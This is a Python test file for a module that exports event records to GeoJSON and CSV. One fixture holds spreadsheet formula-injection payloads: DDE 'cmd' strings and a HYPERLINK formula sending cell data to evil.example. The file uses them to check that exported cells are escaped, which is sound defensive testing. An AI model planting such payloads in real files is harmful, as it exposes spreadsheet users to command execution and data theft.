from __future__ import annotations

import csv
import io
import json

import pytest

from geodata.export.formats import csv_text, geojson_bytes, to_geojson
from tests.hostile import spreadsheet_cells

RECORDS = [
    {"id": "e1", "event_type": "visit", "actors": ["Sergey Lavrov", "Kim Jong Un"], "date_start": "2025-07-12",
     "date_end": "2025-07-12", "date_precision": "day", "lat": 39.1528123456, "lon": 127.4436, "place_name": "Wonsan",
     "country_code": "KP", "geo_precision": "city", "sentence": "Lavrov arrived in Wonsan on Saturday.",
     "source_url": "https://example.org/a", "source_title": "Lavrov in Wonsan", "published": "2025-07-13"},
    {"id": "e2", "event_type": "statement", "actors": [], "date_start": "2025-07-13", "date_end": "2025-07-13",
     "lat": None, "lon": None, "sentence": "Officials said more talks would follow."},
    {"id": "e3", "event_type": "attack", "actors": ["Russian forces"], "date_start": "2025-07-01",
     "date_end": "2025-07-31", "date_precision": "month", "lat": 51.73, "lon": 36.19, "place_name": "Kursk Oblast",
     "country_code": "RU", "geo_precision": "admin1", "sentence": "Fighting went on in the Kursk region in July."},
]


def test_feature_collection_follows_the_contract() -> None:
    collection = to_geojson(RECORDS)
    assert collection["type"] == "FeatureCollection"
    assert [f["properties"]["event_id"] for f in collection["features"]] == ["e1", "e3"]
    assert collection["skipped"] == 1
    wonsan = collection["features"][0]
    assert wonsan["geometry"] == {"type": "Point", "coordinates": [127.4436, 39.152812]}
    for key in ("event_id", "start", "end", "date_precision", "event_type", "actors", "place_name",
                "country_code", "geo_precision", "sentence", "source_url", "source_title", "published"):
        assert key in wonsan["properties"]
    assert wonsan["properties"]["actors"] == ["Sergey Lavrov", "Kim Jong Un"]
    assert collection["features"][1]["properties"]["start"] == "2025-07-01"
    assert collection["features"][1]["properties"]["end"] == "2025-07-31"


@pytest.mark.parametrize("lat, lon", [(None, 10.0), (95.0, 10.0), (10.0, 190.0), (float("nan"), 1.0)])
def test_invalid_coordinates_are_left_out_never_zero(lat, lon) -> None:
    assert to_geojson([{"id": "x", "lat": lat, "lon": lon}])["features"] == []


def test_geopandas_reads_the_export(tmp_path) -> None:
    geopandas = pytest.importorskip("geopandas")
    path = tmp_path / "events.geojson"
    path.write_bytes(geojson_bytes(RECORDS))
    frame = geopandas.read_file(path)
    assert len(frame) == 2
    assert frame.crs.to_epsg() == 4326
    assert set(frame["place_name"]) == {"Wonsan", "Kursk Oblast"}
    assert json.loads(path.read_text(encoding="utf-8"))["features"][0]["properties"]["actors"][0] == "Sergey Lavrov"


def test_csv_has_every_record_located_or_not() -> None:
    rows = list(csv.DictReader(io.StringIO(csv_text(RECORDS))))
    assert [r["event_id"] for r in rows] == ["e1", "e2", "e3"]
    assert rows[0]["actors"] == "Sergey Lavrov; Kim Jong Un"
    assert rows[1]["latitude"] == ""
    assert rows[2]["event_date_end"] == "2025-07-31"


# -- CSV opened as a spreadsheet opens it (#18.6) --------------------------------------------

HOSTILE = {"id": "-evil", "event_type": "+attack", "actors": ["@SUM(1+9)*cmd|' /C calc'!A0", "Kim"],
           "actor1": "@SUM(1+9)", "date_start": "2025-07-12", "date_end": "2025-07-12", "lat": -1.2864,
           "lon": -36.8172, "place_name": " =1+1", "country_code": "\t=2+2", "geo_precision": "city",
           "sentence": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "source_title": "=cmd|' /C calc'!A0",
           "source_url": "\r=3+3", "confidence": -0.5}


def test_csv_cells_never_open_as_formulas() -> None:
    data = csv_text([HOSTILE, RECORDS[0]]).encode("utf-8")
    rows = spreadsheet_cells(data)
    assert [cell for row in rows for cell in row if isinstance(cell, tuple)] == []
    header, hostile = rows[0], dict(zip(rows[0], rows[1]))
    assert (hostile["latitude"], hostile["longitude"], hostile["confidence"]) == (-1.2864, -36.8172, -0.5)
    assert hostile["notes"] == "'" + HOSTILE["sentence"] and hostile["source_title"] == "'=cmd|' /C calc'!A0"
    assert hostile["event_id"] == "'-evil" and hostile["location"] == "' =1+1"
    assert len(header) == len(rows[1]) == len(rows[2])


def test_an_exported_csv_imports_back_without_the_guard() -> None:
    from timeline.store.importing import read_events_file

    _, (event, _) = read_events_file("back.csv", csv_text([HOSTILE, RECORDS[0]]).encode("utf-8"))
    assert (event.id, event.sentence, event.place_name) == ("-evil", HOSTILE["sentence"], "=1+1")
